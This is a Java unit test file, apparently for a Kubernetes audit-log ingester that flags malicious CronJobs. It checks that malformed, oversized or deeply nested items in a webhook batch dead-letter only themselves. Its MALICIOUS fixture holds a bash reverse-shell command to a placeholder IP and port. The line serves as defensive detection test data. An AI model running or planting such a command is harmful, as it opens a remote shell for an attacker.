package dev.cronsentinel.ingest;

import static dev.cronsentinel.ingest.AuditDecoderTest.CJ_REF;
import static dev.cronsentinel.ingest.AuditDecoderTest.cronJobBody;
import static dev.cronsentinel.ingest.AuditDecoderTest.event;
import static dev.cronsentinel.testing.TestData.decode;
import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * In an audit webhook batch ({@code EventList}), one item can cost only itself. Found by the fuzz test: the
 * batch used to be split by a JSON parser whose depth, string and duplicate-key limits applied to the whole
 * batch, so any user allowed to create a custom resource nested deeper than the limit could make every later
 * item of the batch, their malicious CronJob included, vanish into one dead letter.
 */
class BatchIsolationTest {
    static final String MALICIOUS = event("create", CJ_REF, cronJobBody(
            "{\"containers\":[{\"name\":\"a\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\"]}]}"));

    static String batch(String... items) {
        return "{\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/v1\",\"metadata\":{},\"items\":[" + String.join(",", items) + "]}";
    }

    static String deepCustomResource(int depth) {
        return event("create", "{\"resource\":\"widgets\",\"namespace\":\"ns\",\"name\":\"w\",\"apiGroup\":\"example.com\"}",
                "\"requestObject\":{\"spec\":" + "[".repeat(depth) + "]".repeat(depth) + "}");
    }

    @Test
    void anItemNestedBeyondTheLimitCostsOnlyItself() {
        // Nested beyond ingest.max-depth in the envelope, which the API server writes (a deep body is skipped instead).
        String deepCronJob = event("create", CJ_REF, "\"annotations\":" + "{\"a\":".repeat(100) + "{}" + "}".repeat(100));
        for (String b : new String[] {
                batch(deepCustomResource(100), deepCronJob, MALICIOUS),
                // kind after items: the pre-filter must not give up on the items' depth either
                "{\"items\":[" + deepCustomResource(5000) + "," + deepCronJob + "," + MALICIOUS + "],\"kind\":\"EventList\"}"}) {
            TestData.Decoded d = decode(b);
            assertThat(d.events).extracting(WorkloadEvent::name).containsExactly("cj");
            assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("limit-exceeded");
            assertThat(new String(d.deadLetters.get(0).payload(), StandardCharsets.UTF_8)).isEqualTo(deepCronJob);
            assertThat(d.filtered).containsExactly("resource");
        }
    }

    @Test
    void anItemWithDuplicateKeysCostsOnlyItself() {
        String dup = MALICIOUS.replace("\"verb\":\"create\"", "\"verb\":\"create\",\"verb\":\"get\"");
        TestData.Decoded d = decode(batch(dup, MALICIOUS));
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("duplicate-key");
        assertThat(d.events).hasSize(1);
    }

    @Test
    void anOversizedItemCostsOnlyItself() {
        String huge = event("create", CJ_REF, "\"requestObject\":{\"x\":\"" + "A".repeat((1 << 20) + 10) + "\"}");
        TestData.Decoded d = decode(batch(huge, MALICIOUS));
        assertThat(d.deadLetters).singleElement().satisfies(dl -> {
            assertThat(dl.reason()).isEqualTo("oversized");
            assertThat(dl.payloadLength()).isEqualTo(huge.length());
        });
        assertThat(d.events).hasSize(1);
    }

    @Test
    void aBrokenBatchDecodesWhatPrecedesTheBreakAndDeadLettersTheRest() {
        String broken = batch(MALICIOUS, MALICIOUS.substring(0, 200));
        TestData.Decoded d = decode(broken);
        assertThat(d.events).hasSize(1);
        assertThat(d.deadLetters).singleElement().satisfies(dl -> {
            assertThat(dl.reason()).isEqualTo("malformed-json");
            assertThat(dl.detail()).contains("after 1 items").contains("truncated");
            assertThat(new String(dl.payload(), StandardCharsets.UTF_8)).startsWith(MALICIOUS.substring(0, 200));
            assertThat(dl.payloadLength()).isEqualTo(200 + "]}".length());
        });

        TestData.Decoded missingComma = decode(batch(MALICIOUS + " " + MALICIOUS));
        assertThat(missingComma.events).hasSize(1);
        assertThat(missingComma.deadLetters).extracting(DeadLetter::reason).containsExactly("malformed-json");
    }

    @Test
    void emptyBatchesGetAVerdictAndNothingGluedToABatchIsLost() {
        for (String empty : new String[] {batch(), "{\"kind\":\"EventList\",\"items\":null}", "{\"kind\":\"EventList\",\"metadata\":{}}"}) {
            assertThat(decode(empty).filtered).as(empty).containsExactly("empty-event-list");
        }
        TestData.Decoded glued = decode(batch(MALICIOUS) + MALICIOUS);
        assertThat(glued.events).hasSize(1);
        assertThat(glued.deadLetters).singleElement().satisfies(dl -> {
            assertThat(dl.detail()).contains("trailing content");
            assertThat(new String(dl.payload(), StandardCharsets.UTF_8)).isEqualTo(MALICIOUS);
        });
    }

    @Test
    void aBatchWhoseShapeCannotBeReadIsDeadLetteredWhole() {
        assertThat(decode("{\"kind\":\"EventList\",\"items\":{\"a\":1}}").deadLetters).extracting(DeadLetter::reason).containsExactly("wrong-type");
        // An escaped key might spell "items": it is never guessed at.
        TestData.Decoded escaped = decode("{\"kind\":\"EventList\",\"it\\u0065ms\":[" + MALICIOUS + "]}");
        assertThat(escaped.deadLetters).extracting(DeadLetter::reason).containsExactly("malformed-json");
        assertThat(escaped.events).isEmpty();
    }
}
